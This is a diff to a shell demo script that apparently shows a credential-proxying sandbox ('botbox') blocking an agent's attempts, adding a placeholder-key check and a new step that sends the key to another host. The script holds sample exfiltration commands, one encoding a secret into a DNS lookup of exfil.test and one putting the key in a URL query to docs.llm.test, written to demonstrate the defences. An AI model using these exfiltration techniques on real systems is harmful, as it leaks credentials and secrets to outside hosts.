@@ -9,12 +9,16 @@ step() { printf '\n\033[1m[%s] %s\033[0m\n' "$1" "$2"; }
 say() { printf '    %s\n' "$*"; }
 result() { printf '    => %s\n' "$*"; }
 
-step 1 "Call the LLM API, allowed by the policy. I hold no key."
-if env | grep -qi 'llm\|api_key\|sk-demo'; then say "I found a key in my environment!"; else
-    say "no API key in my environment (env | grep -i 'llm\|api_key\|sk-demo': nothing)"; fi
-out=$(curl -sS --max-time 5 -X POST https://api.llm.test/v1/chat -d '{"q":"hi"}' 2>&1)
+step 1 "Call the LLM API, allowed by the policy. I hold no key, only a placeholder."
+say "my environment has LLM_API_KEY=$LLM_API_KEY (made by botbox, not the key)"
+out=$(curl -sS --max-time 5 -X POST https://api.llm.test/v1/chat \
+    -H "Authorization: Bearer $LLM_API_KEY" -d '{"q":"hi"}' 2>&1)
 result "the API answered: $out"
-say "(the server echoes what it received: botbox added the Authorization header)"
+say "(the server echoes what it received: the real key, which botbox put in;"
+case $out in
+*"Bearer $LLM_API_KEY"*) say " botbox replaced it by my placeholder in the answer: the key never reached me)" ;;
+*) say " and I can read it: this should never happen)" ;;
+esac
 
 step 2 "Use the same API for something the policy does not allow (GET /admin)."
 code=$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' https://api.llm.test/admin 2>&1)
@@ -46,3 +50,8 @@ step 6 "Exfiltrate a secret through DNS: look up <secret>.exfil.test."
 name="$(printf 'my-password' | base32 | tr -d '=' | tr 'A-Z' 'a-z').exfil.test"
 status=$(dig +time=2 +tries=1 "$name" | sed -n 's/.*status: \([A-Z]*\),.*/\1/p')
 result "$name -> $status (the name is not allowed; no resolver ever saw it)"
+
+step 7 "Send my placeholder to another host (the API's docs site, allowed for GET)."
+code=$(curl -sS --max-time 5 -o /dev/null -w '%{http_code}' \
+    "https://docs.llm.test/search?q=$LLM_API_KEY" 2>&1)
+result "HTTP $code (refused: the key is bound to api.llm.test only, nothing was sent)"
